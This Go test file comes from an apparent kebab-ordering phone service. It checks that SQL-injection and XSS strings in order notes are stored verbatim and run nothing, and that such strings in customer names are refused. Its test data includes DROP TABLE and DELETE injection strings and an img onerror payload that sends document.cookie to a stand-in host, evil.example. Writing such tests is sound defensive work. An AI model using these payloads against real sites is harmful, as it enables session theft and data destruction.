package abuse

import (
	"context"
	"testing"

	"github.com/kebabalab/kebabalab/internal/pii"
	"github.com/kebabalab/kebabalab/internal/sqlite"
)

// order fills a call's cart with one kebab, sets a pickup time and places
// the order, returning createOrder's result.
func (s *server) order(callID string, args map[string]any) map[string]any {
	s.t.Helper()
	s.call(callID, "addMultipleItemsToCart", map[string]any{"items": []any{kebab}})
	s.call(callID, "setPickupTime", map[string]any{"requestedTime": "in 30 minutes"})
	return s.call(callID, "createOrder", args)
}

// openStore opens the stopped server's database with its keys, to read
// back what was stored.
func openStore(t *testing.T, path string) *sqlite.Store {
	t.Helper()
	enc, err := pii.ParseKeys(encKey)
	if err != nil {
		t.Fatal(err)
	}
	idx, err := pii.ParseKeys(idxKey)
	if err != nil {
		t.Fatal(err)
	}
	keys, err := pii.NewKeyring(enc, idx)
	if err != nil {
		t.Fatal(err)
	}
	st, err := sqlite.Open(context.Background(), path, sqlite.WithPII(keys))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// Notes that look like SQL or script are stored exactly as said and do
// nothing: every table is still there and holds what it should. Names
// that look like either are refused, and nothing is stored for them.
func TestInjection_NotesVerbatimNamesRefused(t *testing.T) {
	t.Parallel()
	s := start(t, nil)
	tables := s.tables()
	notes := []string{
		`'); DROP TABLE orders;-- and extra garlic`,
		`"; DELETE FROM sms_outbox WHERE 1=1; SELECT * FROM orders --`,
		`<script>alert('kitchen')</script> no onion`,
		`<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
	}
	placed := map[string]string{}
	for i, note := range notes {
		out := s.order("call-note-"+string(rune('a'+i)), map[string]any{
			"customerName": "Pat Notes", "notes": note})
		number, _ := out["orderNumber"].(string)
		if out["ok"] != true || number == "" {
			t.Fatalf("note %q: got %v", note, out)
		}
		placed[number] = note
	}
	for i, name := range []string{
		`Robert'); DROP TABLE orders;--`,
		`x' OR '1'='1`,
		`<script>alert(1)</script>`,
		`Pat<img src=x onerror=alert(1)>`,
		`Pat"; DELETE FROM orders; --`,
	} {
		call := "call-name-" + string(rune('a'+i))
		s.call(call, "addMultipleItemsToCart", map[string]any{"items": []any{kebab}})
		s.call(call, "setPickupTime", map[string]any{"requestedTime": "in 30 minutes"})
		s.refused(call, "createOrder", map[string]any{"customerName": name})
	}
	if got := s.tables(); got != tables {
		t.Fatalf("tables changed from %s to %s", tables, got)
	}
	if n := s.rows("orders", ""); n != len(notes) {
		t.Fatalf("%d orders, want %d", n, len(notes))
	}
	if n := s.rows("sms_outbox", ""); n != len(notes) {
		t.Fatalf("%d texts, want one confirmation per order (%d)", n, len(notes))
	}
	s.stop()

	st := openStore(t, s.DBPath)
	for number, note := range placed {
		o, err := st.OrderByNumber(context.Background(), number)
		if err != nil {
			t.Fatal(err)
		}
		if o.Notes != note || o.CustomerName != "Pat Notes" {
			t.Errorf("order %s: stored notes %q name %q, want %q verbatim", number, o.Notes,
				o.CustomerName, note)
		}
	}
}
